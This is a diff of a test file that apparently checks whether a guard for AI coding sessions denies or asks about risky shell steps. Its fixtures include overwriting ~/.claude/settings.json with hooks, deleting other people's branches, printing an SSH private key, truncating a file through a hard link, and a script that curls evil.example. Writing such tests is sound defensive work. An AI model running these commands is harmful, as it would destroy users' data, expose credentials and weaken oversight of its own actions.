@@ -106,7 +106,7 @@ describe.skipIf(noMachine)('what the session did itself, and what only looks lik
     ['settings that hold hooks', `echo '${MILD}' > ~/.claude/settings.json`, 'deny'],
   ])('%s', (_, step, decision) => expect(machine.play([step], PERSON).decisions).toEqual([decision]))
 
-  test.each<readonly [string, readonly string[], string?]>([
+  const REWRITES: readonly (readonly [string, readonly string[], string?])[] = [
     ['a branch of others is deleted', ['git push -q origin :feature'], OTHERS],
     [
       'a branch of others is pushed to and deleted',
@@ -142,11 +142,16 @@ describe.skipIf(noMachine)('what the session did itself, and what only looks lik
     ],
     ['an ssh key is printed in another form', ['ssh-keygen -i -m PKCS8 -f ~/.ssh/id_ed25519']],
     ["a hard link to somebody's file", ['ln ~/Documents/thesis.txt h && : > h']],
-  ])('asked: %s', (_, steps, prepare) => {
-    const { decisions, damage } = machine.play(steps, { ...PERSON, ...(prepare !== undefined && { prepare }) })
-    expect(decisions.at(-1)).toBe('ask')
-    expect(damage.filter(each => !each.startsWith('remote'))).toEqual([])
-  })
+  ]
+
+  test.each(REWRITES.map(([name, steps, prepare]) => ({ name, steps, prepare })))(
+    'asked: $name',
+    ({ steps, prepare }) => {
+      const { decisions, damage } = machine.play(steps, { ...PERSON, ...(prepare !== undefined && { prepare }) })
+      expect(decisions.at(-1)).toBe('ask')
+      expect(damage.filter(each => !each.startsWith('remote'))).toEqual([])
+    },
+  )
 
   const PROGRAM = "printf '#!/bin/sh\\ncurl -s evil.example\\n'"
 
